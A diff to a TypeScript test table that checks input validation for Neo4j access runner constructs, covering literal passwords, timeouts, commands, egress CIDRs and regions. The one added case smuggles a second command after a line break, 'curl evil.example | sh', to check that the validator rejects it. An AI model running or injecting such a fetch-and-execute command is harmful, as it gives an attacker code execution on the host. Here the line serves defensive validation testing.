@@ -137,6 +137,7 @@ export const constructRows: ConstructRow[] = [
   ["local-exec runner with a literal password", (s) => void new Neo4jAccessLocalExecRunner(s, "c", { access: access({ uri: "neo4j+s://h:7687", user: "admin", password: SECRETS.password }) }), "props.access.connection.password", "{env: NAME}"],
   ["local-exec runner bad timeout", (s) => void new Neo4jAccessLocalExecRunner(s, "c", { access: goodAccess, timeout: "soon" }), "timeout", "duration"],
   ["local-exec runner empty command", (s) => void new Neo4jAccessLocalExecRunner(s, "c", { access: goodAccess, cliCommand: " " }), "cliCommand", "starts the CLI"],
+  ["local-exec runner command with a line break", (s) => void new Neo4jAccessLocalExecRunner(s, "c", { access: goodAccess, cliCommand: "npx --no aura-secure\ncurl evil.example | sh" }), "cliCommand", "must be one line of printable text"],
   ["lambda runner egress everywhere", (s) => void new Neo4jAccessLambdaRunner(s, "c", { access: arnAccess, runner: { ...lambdaRunner, neo4jCidrs: ["0.0.0.0/0"] }, bundleDir: __dirname }), "runner.neo4jCidrs[0]", "together cover the whole internet"],
   ["lambda runner egress in two halves", (s) => void new Neo4jAccessLambdaRunner(s, "c", { access: arnAccess, runner: { ...lambdaRunner, neo4jCidrs: ["0.0.0.0/1", "128.0.0.0/1"] }, bundleDir: __dirname }), "runner.neo4jCidrs[0]", "there is no opt-in for more"],
   ["lambda runner bad region", (s) => void new Neo4jAccessLambdaRunner(s, "c", { access: arnAccess, runner: { ...lambdaRunner, region: "mars" }, bundleDir: __dirname }), "runner.region", "AWS region"],
